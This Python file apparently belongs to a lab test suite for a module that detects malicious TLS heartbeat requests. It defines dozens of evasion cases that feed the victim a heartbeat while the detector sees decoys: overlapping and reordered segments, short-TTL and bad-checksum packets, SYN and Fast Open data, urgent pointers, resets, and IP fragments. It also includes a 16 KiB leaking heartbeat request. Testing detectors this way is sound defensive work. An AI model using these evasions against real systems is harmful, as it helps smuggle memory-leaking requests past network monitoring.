# SPDX-License-Identifier: GPL-2.0
"""The evasions: each makes, or tries to make, the victim read other bytes than the module.

A decoy is what the module shall read and the victim shall not: the header of a long record, in whose body
the module would then look for nothing. What the victim shall read comes at the same sequence numbers.
"""

import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace

import victim as tls
from attacker import FAST_OPEN, SMALL_BUFFER, Attack, Setting, high
from wire import DESTINATION_OPTIONS, HOP_BY_HOP

# The module's router lowers it to 1, and the hop behind drops the packet.
SHORT_TTL = 2
# Beyond the window that conntrack and the victim look back.
LONG_AGO = 70_000
# Two signatures (RFC 2385): the victim drops what has two of them, whatever keys it has.
TWO_SIGNATURES = (b"\x13\x12" + bytes(16)) * 2
# Longer than the router remembers a reset connection: 2 seconds here, see run.sh.
LONGER_THAN_CLOSE = 6

CLIENT, SERVER = Setting(), Setting(is_client=False)
CLIENT_PROTECTED = replace(CLIENT, protected=True)
SERVER_PROTECTED = replace(SERVER, protected=True)
EVERYWHERE = (CLIENT, SERVER, CLIENT_PROTECTED, SERVER_PROTECTED)
IN_THE_CLEAR = (CLIENT, SERVER)

Script = Callable[[Attack], None]


@dataclass(frozen=True)
class Case:
    """An evasion, in one setting."""

    name: str
    setting: Setting
    script: Script


CASES: list[Case] = []


def suffix(setting: Setting) -> str:
    """What tells a setting's case apart."""
    return ("" if setting.is_client else "_by_server") + ("_protected" if setting.protected else "")


def case(*settings: Setting, **fields: object) -> Callable[[Script], Script]:
    """Adds a function as a case, in each of the settings."""

    def add(script: Script) -> Script:
        for setting in settings:
            setting = replace(setting, **fields)
            CASES.append(Case(script.__name__ + suffix(setting), setting, script))
        return script

    return add


def decoy(length: int) -> bytes:
    """The header of a record of 16 KiB, and the beginning of its body."""
    return tls.record(tls.APPLICATION_DATA, bytes(1 << 14))[:5] + high(length - 5)


def decoy_for(attack: Attack) -> bytes:
    """A decoy in whose body the whole heartbeat finds room."""
    return decoy(len(attack.heartbeat))


# --- records, cut and joined ------------------------------------------------------


@case(*EVERYWHERE)
def plain(attack: Attack) -> None:
    """One segment."""
    attack.begin()
    attack.send(attack.heartbeat)


@case(*EVERYWHERE)
def one_byte_segments(attack: Attack) -> None:
    """A segment a byte."""
    attack.begin()
    for byte in attack.heartbeat:
        attack.send(bytes([byte]))


def split_case(at: int) -> None:
    """Adds the case that cuts the record behind byte `at`."""

    def split(attack: Attack) -> None:
        attack.begin()
        attack.send(attack.heartbeat[:at])
        attack.sync()
        attack.send(attack.heartbeat[at:])

    split.__name__ = f"split_behind_byte_{at}"
    case(*IN_THE_CLEAR)(split)


for place in range(1, 8):
    split_case(place)


@case(*IN_THE_CLEAR)
def behind_alert(attack: Attack) -> None:
    """A warning and the heartbeat in one segment, as masscan sends it."""
    attack.begin()
    attack.send(tls.record(tls.ALERT, b"\x01\x00") + attack.heartbeat)


@case(*EVERYWHERE)
def behind_application_data(attack: Attack) -> None:
    """Application data and the heartbeat in one segment."""
    attack.begin()
    attack.send(tls.record(tls.APPLICATION_DATA, high(64)) + attack.heartbeat)


@case(CLIENT)
def behind_client_hello(attack: Attack) -> None:
    """ClientHello and the heartbeat in one segment."""
    attack.open()
    attack.send(tls.hello(tls.CLIENT_HELLO) + attack.heartbeat)


@case(*IN_THE_CLEAR)
def before_any_hello(attack: Attack) -> None:
    """The first bytes of the connection."""
    attack.open()
    attack.send(attack.heartbeat)


@case(*EVERYWHERE)
def request_of_16_kib(attack: Attack) -> None:
    """A request as long as the records of its answer, of which the later ones leak."""
    attack.begin()
    body = b"\x01\xff\xff" + high((1 << 14) - 3)
    attack.heartbeat = tls.record(tls.HEARTBEAT, tls.protect(body) if attack.setting.protected else body)
    attack.send(attack.heartbeat)


# --- order ------------------------------------------------------------------------


@case(*EVERYWHERE)
def reordered_halves(attack: Attack) -> None:
    """The second half first."""
    attack.begin()
    attack.at(4, attack.heartbeat[4:])
    attack.at(0, attack.heartbeat[:4])


@case(*EVERYWHERE)
def hole_filled_late(attack: Attack) -> None:
    """The middle last, when all else has long arrived."""
    attack.begin()
    attack.at(0, attack.heartbeat[:2])
    attack.at(6, attack.heartbeat[6:])
    attack.sync()
    attack.at(2, attack.heartbeat[2:6])


@case(*EVERYWHERE)
def overlap_at_start(attack: Attack) -> None:
    """The second segment begins with other bytes for the end of the first."""
    attack.begin()
    attack.at(0, attack.heartbeat[:4])
    attack.at(2, b"\x17\x17" + attack.heartbeat[4:])


@case(*EVERYWHERE)
def overlap_at_end(attack: Attack) -> None:
    """The first segment ends in other bytes for the beginning of a second one that came before it."""
    attack.begin()
    attack.at(4, b"\x17\x17" + attack.heartbeat[6:])
    attack.at(0, attack.heartbeat[:6])


@case(*EVERYWHERE)
def overlap_whole(attack: Attack) -> None:
    """Segments out of order, one of which takes the place of the other at the victim."""
    attack.begin()
    attack.at(1, decoy_for(attack)[1:-1])
    attack.at(1, attack.heartbeat[1:])
    attack.at(0, attack.heartbeat[:1])


@case(*EVERYWHERE)
def overlap_in_a_body(attack: Attack) -> None:
    """The same behind a hole in a body that nobody looks into, with a record's header in the segment."""
    attack.begin()
    body = high(100)
    attack.send(tls.record(tls.APPLICATION_DATA, body)[:5])
    attack.at(50, body[50:] + decoy_for(attack))
    attack.at(50, body[50:] + attack.heartbeat + high(1))
    attack.at(0, body[:50])
    attack.seq += len(body) + len(attack.heartbeat)


@case(*EVERYWHERE)
def other_bytes_before_the_ack(attack: Attack) -> None:
    """A retransmission with other bytes at once."""
    attack.begin()
    attack.at(0, attack.heartbeat[:4])
    attack.at(0, decoy(8)[:4])
    attack.at(4, attack.heartbeat[4:])


@case(*EVERYWHERE)
def other_bytes_after_the_ack(attack: Attack) -> None:
    """A retransmission with other bytes when the first were acknowledged."""
    attack.begin()
    attack.at(0, attack.heartbeat[:4])
    attack.sync()
    attack.at(0, decoy(8)[:4])
    attack.sync()
    attack.at(4, attack.heartbeat[4:])


@case(*EVERYWHERE)
def wrap_in_the_header(attack: Attack) -> None:
    """The sequence number wraps in the middle of the record's header."""
    attack.begin(attack.isn_for_wrap())
    for byte in attack.heartbeat:
        attack.send(bytes([byte]))


@case(*EVERYWHERE)
def wrap_out_of_order(attack: Attack) -> None:
    """The same, and the second half first."""
    attack.begin(attack.isn_for_wrap())
    attack.at(3, attack.heartbeat[3:])
    attack.at(0, attack.heartbeat[:3])


# --- SYN --------------------------------------------------------------------------


def open_with_data(attack: Attack, data: bytes) -> None:
    """A SYN with data to a server that knows no Fast Open, and the rest of the handshake."""
    attack.seq = 1_000_000
    attack.syn(data)
    attack.await_syn()
    attack.seq += 1
    attack.segment()
    attack.sync()


@case(CLIENT)
def syn_data(attack: Attack) -> None:
    """Heartbeat on the SYN, which the server turns down; and once more."""
    open_with_data(attack, attack.heartbeat)
    attack.send(attack.heartbeat)


@case(CLIENT)
def syn_decoy(attack: Attack) -> None:
    """Decoy on the SYN, which the server turns down."""
    open_with_data(attack, decoy_for(attack))
    attack.send(attack.heartbeat)


@case(CLIENT)
def syn_long_decoy(attack: Attack) -> None:
    """Decoy on the SYN, then a whole ClientHello and the heartbeat."""
    open_with_data(attack, decoy(400))
    attack.greet()
    attack.send(attack.heartbeat)


@case(CLIENT, host=FAST_OPEN)
def fast_open(attack: Attack) -> None:
    """Heartbeat on the SYN, which the server takes."""
    attack.seq = 1_000_000
    attack.syn(attack.heartbeat, options=attack.syn_options() + FAST_OPEN_COOKIE)
    attack.await_syn()
    attack.seq += 1 + len(attack.heartbeat)
    attack.segment()


FAST_OPEN_COOKIE = b"\x22\x0a" + bytes(8)
# A record of 19 bytes; behind its first 6 bytes comes what reads like another header: 17 03 03 40 00.
AMBIGUOUS = b"\x18\x03\x03\x00\x13" + b"\x01" + b"\x17\x03\x03\x40\x00" + high(13)


def fast_open_twice(attack: Attack, first: bytes, second: bytes, shift: int = 0) -> None:
    """Two SYNs before the answer to the first, whose data the server takes."""
    attack.seq = 1_000_000
    attack.syn(first, options=attack.syn_options() + FAST_OPEN_COOKIE)
    attack.syn(second, seq=attack.seq + shift)
    attack.await_syn()
    attack.seq += 1 + len(first)
    attack.segment()


@case(CLIENT, host=FAST_OPEN)
def second_syn_with_decoy(attack: Attack) -> None:
    """The second SYN has the same number and other data."""
    half = attack.heartbeat[:6]
    fast_open_twice(attack, half, decoy(6))
    attack.send(attack.heartbeat[6:])


@case(CLIENT, host=FAST_OPEN)
def second_syn_bare(attack: Attack) -> None:
    """The second SYN has no data, as a Fast Open client sends it again."""
    fast_open_twice(attack, AMBIGUOUS[:6], b"")
    attack.send(AMBIGUOUS[6:])


@case(CLIENT, host=FAST_OPEN)
def second_syn_elsewhere(attack: Attack) -> None:
    """The second SYN has another number, and its decoy ends where the data of the first did."""
    half = attack.heartbeat[:6]
    fast_open_twice(attack, half, decoy(20), shift=6 - 20)
    attack.send(attack.heartbeat[6:])


@case(CLIENT)
def second_syn(attack: Attack) -> None:
    """Two SYNs of different numbers, the first of which dies on its way."""
    attack.seq = 1_000_000
    attack.syn(decoy(400), seq=attack.seq - 100, ttl=SHORT_TTL)
    attack.syn()
    attack.await_syn()
    attack.seq += 1
    attack.segment()
    attack.send(attack.heartbeat)


@case(*EVERYWHERE)
def syn_later(attack: Attack) -> None:
    """A SYN with a decoy inside the connection, which its receiver answers by an ACK only."""
    attack.begin()
    attack.segment(decoy_for(attack), seq=attack.seq - 1, flags="S", ack=0)
    attack.segment(decoy_for(attack), seq=attack.seq, flags="SA")
    attack.send(attack.heartbeat)


@case(SERVER)
def syn_ack_decoy(attack: Attack) -> None:
    """Decoy on the SYN-ACK: a client ignores data there."""
    attack.seq = 1_000_000
    attack.be_connected_to()
    attack.segment(decoy_for(attack), flags="SA", options=attack.syn_options())
    attack.seq += 1
    attack.sync()
    attack.send(attack.heartbeat)


@case(SERVER_PROTECTED)
def syn_ack_flight(attack: Attack) -> None:
    """On the SYN-ACK, a whole flight that the client ignores, and a decoy behind; then the true one, longer."""
    attack.seq = 1_000_000
    attack.be_connected_to()
    hello = tls.hello(tls.SERVER_HELLO)
    attack.segment(hello + tls.SERVER_FLIGHT + decoy(20), flags="SA", options=attack.syn_options())
    attack.seq += 1
    attack.sync()
    attack.greet()
    attack.send(attack.heartbeat)


def open_simultaneously(attack: Attack, data: bytes) -> None:
    """Answers the victim's SYN by a SYN."""
    attack.seq = 1_000_000
    attack.be_connected_to()
    attack.syn(data)
    attack.seq += 1
    attack.sync()
    attack.segment()
    attack.sync()


@case(SERVER, SERVER_PROTECTED)
def simultaneous_open(attack: Attack) -> None:
    """Both sides send a SYN."""
    open_simultaneously(attack, b"")
    attack.greet()
    attack.send(attack.heartbeat)


@case(SERVER)
def simultaneous_open_decoy(attack: Attack) -> None:
    """The same with a decoy on the crossing SYN, which is ignored."""
    open_simultaneously(attack, decoy_for(attack))
    attack.send(attack.heartbeat)


# --- FIN and RST ------------------------------------------------------------------


@case(*EVERYWHERE)
def data_after_fin(attack: Attack) -> None:
    """The FIN arrives before what it stands behind."""
    attack.begin()
    attack.at(len(attack.heartbeat), b"", flags="FA")
    attack.sync()
    attack.send(attack.heartbeat)


@case(*EVERYWHERE)
def fin_decoy(attack: Attack) -> None:
    """A decoy on a FIN that the victim drops for its checksum."""
    attack.begin()
    attack.segment(decoy_for(attack), flags="FA", bad_checksum=True)
    attack.send(attack.heartbeat)


@case(*EVERYWHERE)
def data_after_rst(attack: Attack) -> None:
    """Resets that do not hit the victim's next byte are challenged, and change nothing."""
    attack.begin()
    attack.at(100, b"", flags="R", ack=0)
    attack.at(-1, b"", flags="RA")
    attack.sync()
    attack.send(attack.heartbeat)


@case(*EVERYWHERE)
def rst_decoy(attack: Attack) -> None:
    """A decoy on such a reset."""
    attack.begin()
    attack.at(-1, high(1) + decoy_for(attack), flags="RA")
    attack.at(1, decoy_for(attack), flags="R", ack=0)
    attack.sync()
    attack.send(attack.heartbeat)


@case(CLIENT, CLIENT_PROTECTED)
def forgotten_after_rst(attack: Attack) -> None:
    """A reset that dies behind the router, whose conntrack forgets the connection; then the heartbeat, cut in two."""
    attack.begin()
    attack.segment(flags="R", ack=0, ttl=SHORT_TTL)
    time.sleep(LONGER_THAN_CLOSE)
    attack.send(attack.heartbeat[:4])
    attack.send(attack.heartbeat[4:])


# --- urgent data --------------------------------------------------------------------


def with_urgent_byte(attack: Attack) -> bytes:
    """A stream in which, at offset 3, stands a byte that the victim does not read.

    With it a record of 16 KiB begins, without it a short one, and the heartbeat behind it.
    """
    short = tls.record(tls.APPLICATION_DATA, high(16))
    return short[:3] + b"\x40" + short[3:] + attack.heartbeat


@case(*EVERYWHERE)
def urgent_announced(attack: Attack) -> None:
    """A bare ACK points at the urgent byte, before it comes."""
    attack.begin()
    attack.segment(flags="AU", urgent=4)
    attack.sync()
    attack.send(with_urgent_byte(attack))


@case(*EVERYWHERE)
def urgent_inside(attack: Attack) -> None:
    """The data segment itself points at it."""
    attack.begin()
    attack.send(with_urgent_byte(attack), flags="AU", urgent=4)


@case(*EVERYWHERE)
def urgent_behind(attack: Attack) -> None:
    """The data segment points behind its end."""
    attack.begin()
    stream = with_urgent_byte(attack)
    attack.segment(stream[:2], flags="AU", urgent=4)
    attack.seq += 2
    attack.send(stream[2:])


# --- what the victim does not take ------------------------------------------------


def decoy_case(name: str, settings: tuple[Setting, ...] = EVERYWHERE, **how: object) -> None:
    """Adds a case: a decoy that the victim drops, then the heartbeat in its place."""
    timestamps = "age" in how

    def swap(attack: Attack) -> None:
        fields = dict(how)
        attack.begin()
        if fields.pop("old_ack", False):
            fields["ack"] = attack.ack - LONG_AGO
        attack.segment(decoy_for(attack), **fields)
        attack.sync()
        attack.send(attack.heartbeat)

    swap.__name__ = name
    case(*settings, timestamps=timestamps)(swap)


decoy_case("wrong_checksum_decoy", bad_checksum=True)
decoy_case("short_ttl_decoy", ttl=SHORT_TTL)
decoy_case("old_timestamp_decoy", age=900_000)
decoy_case("old_ack_decoy", old_ack=True)
decoy_case("old_ack_fin_decoy", (CLIENT_PROTECTED,), old_ack=True, flags="FA")
decoy_case("signature_decoy", options=TWO_SIGNATURES)
decoy_case("no_flags_decoy", flags="P")


@case(CLIENT_PROTECTED, host=SMALL_BUFFER)
def full_window_decoy(attack: Attack) -> None:
    """A decoy while the victim's window is full; the heartbeat when it has read."""
    attack.begin()
    filling = tls.record(tls.APPLICATION_DATA, high(1 << 14))
    for at in range(0, len(filling), 1000):
        attack.at(at, filling[at : at + 1000])
    attack.barrier()
    attack.at(len(filling), decoy_for(attack))
    attack.barrier()
    for _ in range(8):
        attack.sync()
        for at in range(0, len(filling), 1000):
            attack.at(at, filling[at : at + 1000])
    attack.seq += len(filling)
    attack.send(attack.heartbeat)


@case(*EVERYWHERE, window=100)
def tiny_window(attack: Attack) -> None:
    """The answer is drawn in small pieces."""
    attack.begin()
    attack.send(attack.heartbeat)


# --- IP -----------------------------------------------------------------------------


@case(*EVERYWHERE)
def ip_fragments(attack: Attack) -> None:
    """Fragments of 8 bytes."""
    attack.begin()
    attack.send(attack.heartbeat, fragment=8)


@case(*IN_THE_CLEAR)
def ip_fragments_backwards(attack: Attack) -> None:
    """The last fragment first."""
    attack.begin()
    attack.send(attack.heartbeat, fragment=8, backwards=True)


@case(*IN_THE_CLEAR)
def ip_options(attack: Attack) -> None:
    """An IPv4 header longer than usual."""
    attack.begin()
    attack.send(attack.heartbeat, ip_options=b"\x01" * 8)


@case(*EVERYWHERE, family=6)
def ipv6(attack: Attack) -> None:
    """One segment over IPv6."""
    attack.begin()
    attack.send(attack.heartbeat)


@case(*IN_THE_CLEAR, family=6)
def ipv6_fragments(attack: Attack) -> None:
    """Fragment headers; the first fragment must hold all of TCP's header (RFC 8200 4.5)."""
    attack.begin()
    attack.send(attack.heartbeat, fragment=24)


@case(*IN_THE_CLEAR, family=6)
def ipv6_destination_options(attack: Attack) -> None:
    """A header of destination options before the segment."""
    attack.begin()
    attack.send(attack.heartbeat, extensions=(DESTINATION_OPTIONS,))


@case(*IN_THE_CLEAR, family=6)
def ipv6_hop_by_hop(attack: Attack) -> None:
    """Hop-by-hop and destination options."""
    attack.begin()
    attack.send(attack.heartbeat, extensions=(HOP_BY_HOP, DESTINATION_OPTIONS))


@case(*IN_THE_CLEAR, family=6)
def ipv6_extended_fragments(attack: Attack) -> None:
    """Both, in fragments."""
    attack.begin()
    attack.send(attack.heartbeat, extensions=(DESTINATION_OPTIONS,), fragment=32)


def all_cases() -> Iterator[Case]:
    """All of them; their names are stable."""
    names = [case.name for case in CASES]
    if len(set(names)) != len(names):
        raise ValueError("two cases have the same name")
    return iter(CASES)
